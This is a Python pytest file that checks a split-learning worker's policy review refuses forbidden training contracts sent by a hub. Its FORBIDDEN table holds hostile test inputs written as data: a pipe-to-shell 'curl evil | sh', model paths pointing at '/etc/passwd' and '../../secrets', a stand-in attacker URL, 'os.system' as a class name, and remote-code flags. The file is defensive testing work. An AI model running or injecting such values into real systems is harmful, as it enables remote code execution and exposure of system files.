"""Promise 12: the site's policy is enforced at the worker, whatever the hub sends."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from splitcore.config import canonical_json
from splitcore.policy.schema import PrivacyBudget
from workers.approvals import ApprovalBook
from workers.data.store import DatasetStore
from workers.models_registry import ModelRegistry, RegisteredModel
from workers.policy import SitePolicy
from workers.policy_review import Review, Site, review
from workers.settings import WorkerConfig, WorkerHome
from workers.tests.support import DIGEST, MANIFEST, PEER, assignment_for, contract_for, enrolled_home
from workers.trust import TrustBook

Change = Callable[[dict[str, Any]], None]


@pytest.fixture
def home(tmp_path: Path) -> WorkerHome:
    folder = enrolled_home(tmp_path / "home")
    model = RegisteredModel(
        model_id="acme/tiny", revision="r1", manifest_hash=MANIFEST, folder=tmp_path, parameters=1, bytes=1
    )
    folder.models_file.write_text(json.dumps([model.model_dump(mode="json")]))
    return folder


def site_of(home: WorkerHome, policy: SitePolicy | None = None, trust: TrustBook | None = None) -> Site:
    enrolment = WorkerConfig.load(home).enrolment
    return Site(
        worker_id=enrolment.worker_id,
        organisation_id=enrolment.organisation_id,
        fingerprint=enrolment.fingerprint,
        policy=policy or SitePolicy(max_steps=100, max_message_bytes=1 << 24, peer_trust="first_use"),
        trust=trust or TrustBook(compute=[PEER]),
        approvals=ApprovalBook(),
        models=ModelRegistry(home),
        dataset_of=lambda digest: [("notes", 1)] if digest == DIGEST else [],
    )


def judge(home: WorkerHome, change: Change, **assignment: Any) -> Review:
    contract = copy.deepcopy(contract_for(home))
    change(contract)
    return review(assignment_for(contract, **assignment), site_of(home))


def _model(value: str) -> Change:
    return lambda contract: contract["config"]["model"].update(name_or_path=value)


def _section(name: str, **values: Any) -> Change:
    return lambda contract: contract["config"].setdefault(name, {}).update(values)


def _own(**values: Any) -> Change:
    return lambda contract: contract["participants"][0].update(values)


FORBIDDEN: dict[str, Change] = {
    "labels that leave the site (vanilla)": _section("split", topology="vanilla"),
    "a cut before the least head layers": _section("split", head_layers=0),
    "a tail of fewer layers than the least": _section("split", tail_layers=1),
    "a bare public head in the tail": _section("split", tail_layers=0),
    "an override that moves this party's cut": _section("parties", **{"hospital-a": {"head_layers": 0}}),
    "prompts in the place of completions": _section("data", columns={"prompt": "completion", "completion": "prompt"}),
    "a column in another role": _section("data", columns={"completion": "prompt"}),
    "a path of this machine as the model": _model("/etc/passwd"),
    "a relative path as the model": _model("../../secrets"),
    "a home folder as the model": _model("~/models/tiny"),
    "a file address as the model": _model("file:///srv/model"),
    "a web address as the model": _model("https://evil.example/model"),
    "a Windows path as the model": _model("C:\\models\\tiny"),
    "another model under a registered manifest": _model("acme/other"),
    "another revision under a registered manifest": _section("model", revision="r2"),
    "a model without a manifest": _section("model", manifest=None),
    "a manifest that is not registered here": _section("model", manifest="12" * 32),
    "more steps than the site allows": _section("training", steps=101),
    "epochs where the site limits steps": _section("training", steps=None, epochs=1.0),
    "remote code": _section("model", trust_remote_code=True),
    "a class name in the configuration": _section("training", trainer_class="os.system"),
    "a mechanism that does not exist": _section("privacy", mechanism="plugin:evil"),
    "an unknown section": lambda contract: contract["config"].update(hooks={"before": "import os"}),
    "a dataset under another name than this site's": _own(dataset="public-demo"),
    "a dataset under another version than this site's": _own(dataset_version=7),
    "a dataset whose digest has changed": _own(dataset_digest="00" * 32),
    "no dataset at all": _own(dataset_version_id="", dataset_digest=""),
    "another certificate in this worker's name": _own(fingerprint="11" * 32),
    "another organisation in this worker's place": _own(organisation_id="org_other"),
    "another worker in this worker's place": _own(worker_id="wrk_other"),
    "larger messages than the site allows": lambda contract: contract.update(message_bytes=1 << 30),
    "two servers": lambda contract: contract["participants"].append(contract["participants"][1] | {"party": "gpu-2"}),
    "two parties of one name": lambda contract: contract["participants"].append(contract["participants"][0]),
    "another run's contract": lambda contract: contract.update(run_id="run_2"),
    "a field that the contract does not have": lambda contract: contract.update(run_this="curl evil | sh"),
    "a prompt with room for a row": lambda contract: contract.update(public_prompts=["x" * 601]),
}


def test_a_contract_inside_the_policy_is_accepted(home: WorkerHome) -> None:
    found = judge(home, lambda contract: None)
    assert found.refusals == []
    assert found.verdict().accepted


def test_a_contract_that_names_each_column_as_it_is_stored_is_accepted(home: WorkerHome) -> None:
    found = judge(home, _section("data", columns={"prompt": "prompt", "completion": "completion"}))
    assert found.refusals == []


def test_a_compute_worker_has_no_say_in_how_rows_are_read(home: WorkerHome) -> None:
    def as_server(contract: dict[str, Any]) -> None:
        for part, role in zip(contract["participants"], ("server", "client"), strict=True):
            part["role"] = role
        contract["participants"][0].update(dataset_version_id="", dataset_digest="")
        contract["config"]["data"] = {"columns": {"completion": "prompt"}}

    assert judge(home, as_server, role="server").refusals == []


@pytest.mark.promise(12, figure="every forbidden job refused, at least 20")
@pytest.mark.parametrize("name", FORBIDDEN)
def test_a_forbidden_job_is_refused(home: WorkerHome, name: str) -> None:
    found = judge(home, FORBIDDEN[name])
    assert found.refusals, name
    assert not found.verdict().accepted


def test_at_least_twenty_forbidden_jobs_are_tried() -> None:
    assert len(FORBIDDEN) >= 20


def test_bytes_that_do_not_have_the_approved_hash_are_refused(home: WorkerHome) -> None:
    text = canonical_json(contract_for(home))
    assignment = assignment_for(text).model_copy(update={"contract": text.replace('"steps":50', '"steps":60')})
    assert review(assignment, site_of(home)).refusals


def test_a_contract_that_is_not_canonical_is_refused(home: WorkerHome) -> None:
    assert review(assignment_for(json.dumps(contract_for(home), indent=1)), site_of(home)).refusals


def test_a_role_that_the_contract_does_not_give_is_refused(home: WorkerHome) -> None:
    assert judge(home, lambda contract: None, role="server").refusals


def test_a_compute_worker_takes_no_dataset_but_any_cut(home: WorkerHome) -> None:
    def as_server(contract: dict[str, Any]) -> None:
        own, peer = contract["participants"]
        for part, role in ((own, "server"), (peer, "client")):
            part["role"] = role
        contract["config"]["split"].update(topology="vanilla", head_layers=1, tail_layers=0)
        own.update(dataset_version_id="", dataset_digest="")

    assert judge(home, as_server, role="server").refusals == []

    def with_rows(contract: dict[str, Any]) -> None:
        as_server(contract)
        contract["participants"][0].update(dataset_version_id="dsv_1", dataset_digest=DIGEST)

    assert judge(home, with_rows, role="server").refusals


def test_a_model_outside_the_site_s_list_is_refused(home: WorkerHome) -> None:
    assignment = assignment_for(contract_for(home))
    assert review(assignment, site_of(home, SitePolicy(models=["acme/other"]))).refusals
    assert review(assignment, site_of(home, SitePolicy(models=[MANIFEST]))).refusals == []


@pytest.mark.parametrize("value", ["NaN", "Infinity", "1e999", "[" * 4000 + "]" * 4000, '"\\ud800"', '"\\u0000"'])
def test_a_contract_that_is_no_canonical_json_is_refused_and_nothing_is_raised(home: WorkerHome, value: str) -> None:
    text = canonical_json(contract_for(home)).replace('"steps":50', f'"steps":{value}')
    found = review(assignment_for(text), site_of(home))
    assert found.refusals
    assert found.verdict().accepted is False


def test_a_fault_of_a_check_is_a_refusal_of_that_contract(home: WorkerHome, monkeypatch: pytest.MonkeyPatch) -> None:
    def fault(*subjects: object) -> list[Any]:
        raise OverflowError("int too large")

    monkeypatch.setattr("workers.policy_review.RULES", (fault,))
    found = judge(home, lambda contract: None)
    assert not found.verdict().accepted
    assert found.error().code == "CL-1425"
    assert "OverflowError" in found.refusals[0].message
    assert "int too large" not in found.refusals[0].message


@pytest.mark.parametrize("value", [0.0, 5e-324, 1e-200])
def test_noise_that_is_next_to_none_is_refused_and_nothing_is_raised(home: WorkerHome, value: float) -> None:
    policy = SitePolicy(privacy_budget=PrivacyBudget(epsilon=8, delta=1e-5))
    for fields in ({"noise": value}, {"clip": value}):
        contract = contract_for(home)
        contract["config"]["privacy"] = {"defences": [{"name": "gaussian", **fields}]}
        assert not review(assignment_for(contract), site_of(home, policy)).accepted


def test_a_refusal_quotes_a_contracts_words_without_control_characters(home: WorkerHome) -> None:
    found = judge(home, lambda contract: contract["config"].update({"odd\tkey\u2028" + "x" * 900: 1}))
    assert found.refusals
    assert all(len(refusal.message) <= 600 for refusal in found.refusals)


def test_a_stated_size_does_not_hide_what_the_configuration_lets_cross(home: WorkerHome, tmp_path: Path) -> None:
    model = {"model_type": "llama", "hidden_size": 16, "num_hidden_layers": 5, "vocab_size": 64}
    (tmp_path / "config.json").write_text(json.dumps(model | {"num_attention_heads": 2}))
    contract = contract_for(home, message_bytes=1024)
    assert review(assignment_for(contract), site_of(home)).refusals == []
    contract["config"]["training"].update(batch_size=4096, max_length=8192)
    [refusal] = review(assignment_for(contract), site_of(home)).refusals
    assert refusal.field == "training.batch_size"


def test_the_same_rows_may_be_stored_as_two_versions(home: WorkerHome, tmp_path: Path) -> None:
    file, store = tmp_path / "rows.jsonl", DatasetStore(home.root)
    file.write_text('{"prompt": "a", "completion": "b"}\n' * 2)
    for _ in range(2):
        staged = store.stage(file)
        store.confirm(staged.staged_id, store.propose(staged.staged_id, "notes"))
    digest = store.versions("notes")[0].metadata.digest
    site = replace(site_of(home), dataset_of=Site.load(home, WorkerConfig.load(home)).dataset_of)
    for number in (1, 2, 3):
        contract = contract_for(home)
        contract["participants"][0].update(dataset_digest=digest, dataset_version=number)
        assert review(assignment_for(contract), site).accepted == (number < 3)


def test_rows_that_are_here_under_another_name_only_are_refused_by_both_names(home: WorkerHome, tmp_path: Path) -> None:
    file, store = tmp_path / "rows.jsonl", DatasetStore(home.root)
    file.write_text('{"prompt": "a", "completion": "b"}\n' * 2)
    for name in ("notes", "letters"):
        staged = store.stage(file)
        store.confirm(staged.staged_id, store.propose(staged.staged_id, name))
    digest = store.versions("notes")[0].metadata.digest
    store.delete("notes", 1)
    site = replace(site_of(home), dataset_of=Site.load(home, WorkerConfig.load(home)).dataset_of)
    contract = contract_for(home)
    contract["participants"][0].update(dataset_digest=digest)
    [refusal] = review(assignment_for(contract), site).refusals
    assert refusal.field == "participants.dataset"
    assert "The rows of notes v1 aren't on this worker" in refusal.message
    assert "letters v1: choose that dataset" in refusal.message
    (home.root / "datasets" / "letters" / "v1" / "train.jsonl").unlink()
    [refusal] = review(assignment_for(contract), site).refusals
    assert "Add the file again there" in refusal.message, "a version without its rows is none"
